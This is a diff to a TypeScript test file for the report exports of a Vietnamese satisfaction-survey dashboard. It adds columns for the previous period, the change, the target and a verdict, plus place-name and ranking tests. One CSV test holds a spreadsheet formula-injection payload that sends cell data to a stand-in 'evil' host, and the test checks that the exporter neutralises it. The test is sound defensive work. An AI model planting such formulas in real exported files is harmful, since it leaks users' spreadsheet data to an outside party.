@@ -2,8 +2,17 @@ import { unzipSync, strFromU8 } from 'fflate';
 import { describe, expect, it } from 'vitest';
 import { DEFAULT_SCALE, SCALE_4, localMidnight } from '../../../core/index.ts';
 import type { Tally } from '../../../core/index.ts';
-import { BOM, csvField, reportCsv } from '../../../dashboard/src/reports/csv.ts';
-import { buildReport, reportDateLine, reportFileName, reportHeadings, reportPeriodLine } from '../../../dashboard/src/reports/report.ts';
+import { BOM, reportCsv } from '../../../dashboard/src/reports/csv.ts';
+import {
+  buildReport,
+  placeName,
+  reportDateLine,
+  reportFileName,
+  reportHeadings,
+  reportPeriodLine,
+  reportPlaceDateLine,
+  rowVerdict,
+} from '../../../dashboard/src/reports/report.ts';
 import type { ReportInput } from '../../../dashboard/src/reports/report.ts';
 import { columnName, reportXlsx, sheetXml, xmlText } from '../../../dashboard/src/reports/xlsx.ts';
 import { FakeBridge, MORNING } from '../fixtures.ts';
@@ -46,7 +55,7 @@ function input(over: Partial<ReportInput> = {}): ReportInput {
 describe('report content', () => {
   it('has one row per unit in the district report columns, ranked, with an exact total', () => {
     const r = buildReport(input());
-    expect(reportHeadings(r)).toEqual(['Đơn vị', 'Số lượt đánh giá', 'Rất hài lòng', 'Hài lòng', 'Không hài lòng', 'Tỷ lệ hài lòng (%)', 'Chỉ số điểm']);
+    expect(reportHeadings(r)).toEqual(['Đơn vị', 'Số lượt đánh giá', 'Rất hài lòng', 'Hài lòng', 'Không hài lòng', 'Tỷ lệ hài lòng (%)', 'Chỉ số điểm', 'Kỳ trước (%)', 'Thay đổi (điểm %)', 'Mục tiêu (%)', 'Đánh giá']);
     expect(r.rows.map((x) => [x.unit, x.total, x.counts, x.satisfiedPercent, x.pointsIndex, x.filtered])).toEqual([
       ['Quầy 1 – Tư pháp – Hộ tịch', 100, [66, 33, 1], 99, 82.5, 0],
       ['Quầy 2, "Địa chính"', 4, [0, 3, 1], 75, 37.5, 2],
@@ -71,8 +80,57 @@ describe('report content', () => {
 
   it('uses the scale given: one column per level of a 4-level scale, in English too', () => {
     const r = buildReport(input({ scale: SCALE_4, locale: 'en' }));
-    expect(reportHeadings(r)).toEqual(['Unit', 'Ratings', 'Very satisfied', 'Satisfied', 'Neutral', 'Dissatisfied', 'Satisfied (%)', 'Points index']);
+    expect(reportHeadings(r)).toEqual(['Unit', 'Ratings', 'Very satisfied', 'Satisfied', 'Neutral', 'Dissatisfied', 'Satisfied (%)', 'Points index', 'Previous period (%)', 'Change (points)', 'Target (%)', 'Verdict']);
     expect(r.total.unit).toBe('Total');
+  });
+});
+
+describe('what an official report needs (issue 12 item 11)', () => {
+  it('judges each unit against its target, Đạt / Chưa đạt, and "Ít lượt" on too few votes', () => {
+    const r = buildReport(input({ target: () => 99.5, totalTarget: 80 }));
+    expect(r.rows.map((x) => [x.unit, x.target, rowVerdict(x, 'vi')])).toEqual([
+      ['Quầy 1 – Tư pháp – Hộ tịch', 99.5, 'Chưa đạt'],
+      ['Quầy 2, "Địa chính"', 99.5, 'Ít lượt'],
+    ]);
+    expect(rowVerdict(r.total, 'vi')).toBe('Đạt');
+  });
+
+  it('compares with the previous period', () => {
+    const none = buildReport(input({ previous: { from: '2025-02-01', to: '2025-02-28' } }));
+    expect(none.rows[0]).toMatchObject({ previousPercent: null, delta: null });
+    const same = buildReport(input({ previous: { from: '2025-03-01', to: '2025-03-03' } }));
+    expect(same.rows.map((x) => [x.previousPercent, x.delta])).toEqual([
+      [99, 0],
+      [75, 0],
+    ]);
+    expect(reportPeriodLine(same)).toBe('Kỳ báo cáo: Tháng 3/2025 (01/03/2025 – 31/03/2025); so sánh với kỳ trước: 01/03/2025 – 03/03/2025');
+  });
+
+  it('reports a period in progress "tính đến ngày …", not the whole month', () => {
+    const r = buildReport(input({ today: '2025-03-06' }));
+    expect(reportPeriodLine(r)).toBe('Kỳ báo cáo: Tháng 3/2025 (từ ngày 01/03/2025, tính đến ngày 06/03/2025)');
+    expect(r.asOf).toBe('2025-03-06');
+    expect(reportPeriodLine(buildReport(input({ today: '2025-04-02' })))).toBe('Kỳ báo cáo: Tháng 3/2025 (01/03/2025 – 31/03/2025)');
+  });
+
+  it('has the place-and-date line, the place named from the office data without its level word', () => {
+    expect(placeName('Quận Ba Đình')).toBe('Ba Đình');
+    expect(placeName('Phường Phúc Xá')).toBe('Phúc Xá');
+    expect(placeName('Tỉnh Đắk Lắk')).toBe('Đắk Lắk');
+    expect(placeName('Thành phố Hà Nội')).toBe('Hà Nội');
+    expect(placeName('Đặc khu Phú Quốc')).toBe('Phú Quốc');
+    expect(placeName('Ba Đình')).toBe('Ba Đình');
+    expect(reportPlaceDateLine(buildReport(input({ place: 'Ba Đình' })))).toBe('Ba Đình, ngày 02 tháng 04 năm 2025');
+  });
+
+  it('ranks by the Wilson lower bound, like the dashboard', () => {
+    const bridge = new FakeBridge();
+    for (let i = 0; i < 3; i++) bridge.vote('quay-2', 'q2-a', 'rat-hai-long', MORNING + i * 1000);
+    for (let i = 0; i < 200; i++) bridge.vote('quay-1', 'q1-a', i < 190 ? 'hai-long' : 'khong-hai-long', MORNING + 10_000 + i * 1000);
+    expect(buildReport(input({ tallies: bridge.tallies() })).rows.map((x) => [x.key, x.satisfiedPercent])).toEqual([
+      ['ba-dinh/phuc-xa/quay-1', 95],
+      ['ba-dinh/phuc-xa/quay-2', 100],
+    ]);
   });
 });
 
@@ -82,14 +140,19 @@ describe('CSV export', () => {
     expect(csv.startsWith(BOM)).toBe(true);
     const lines = csv.slice(1).split('\r\n');
     expect(lines).toEqual([
-      'Đơn vị,Số lượt đánh giá,Rất hài lòng,Hài lòng,Không hài lòng,Tỷ lệ hài lòng (%),Chỉ số điểm',
-      'Quầy 1 – Tư pháp – Hộ tịch,100,66,33,1,99,82.5',
-      '"Quầy 2, ""Địa chính""",4,0,3,1,75,37.5',
-      'Tổng cộng,104,66,36,2,98.08,80.77',
+      'Đơn vị,Số lượt đánh giá,Rất hài lòng,Hài lòng,Không hài lòng,Tỷ lệ hài lòng (%),Chỉ số điểm,Kỳ trước (%),Thay đổi (điểm %),Mục tiêu (%),Đánh giá',
+      'Quầy 1 – Tư pháp – Hộ tịch,100,66,33,1,99,82.5,,,80,Đạt',
+      '"Quầy 2, ""Địa chính""",4,0,3,1,75,37.5,,,80,Ít lượt',
+      'Tổng cộng,104,66,36,2,98.08,80.77,,,,',
       '',
     ]);
-    expect(csvField(null)).toBe('');
-    expect(csvField('a\nb')).toBe('"a\nb"');
+  });
+
+  it('defuses a unit name that a spreadsheet would run as a formula (names come from MQTT)', () => {
+    const report = buildReport(input());
+    const evil = { ...report, rows: [{ ...report.rows[0]!, unit: '=HYPERLINK("http://evil/?"&A1,"Quầy 1")' }] };
+    const line = reportCsv(evil).split('\r\n')[1]!;
+    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
   });
 });
 
@@ -115,8 +178,8 @@ describe('XLSX export', () => {
     expect(rows[0]).toEqual(['BÁO CÁO KẾT QUẢ ĐÁNH GIÁ MỨC ĐỘ HÀI LÒNG']);
     expect(rows[2]).toEqual(['Kỳ báo cáo: Tháng 3/2025 (01/03/2025 – 31/03/2025)']);
     expect(rows[5]![0]).toBe('Đơn vị');
-    expect(rows[6]).toEqual(['Quầy 1 – Tư pháp – Hộ tịch', '100', '66', '33', '1', '99', '82.5']);
-    expect(rows[8]).toEqual(['Tổng cộng', '104', '66', '36', '2', '98.08', '80.77']);
+    expect(rows[6]).toEqual(['Quầy 1 – Tư pháp – Hộ tịch', '100', '66', '33', '1', '99', '82.5', '', '', '80', 'Đạt']);
+    expect(rows[8]).toEqual(['Tổng cộng', '104', '66', '36', '2', '98.08', '80.77', '', '', '', '']);
     expect(sheet).toContain('paperSize="9"');
     for (const part of ['[Content_Types].xml', 'xl/workbook.xml', 'xl/styles.xml']) {
       const xml = new DOMParser().parseFromString(strFromU8(files[part]!), 'application/xml');
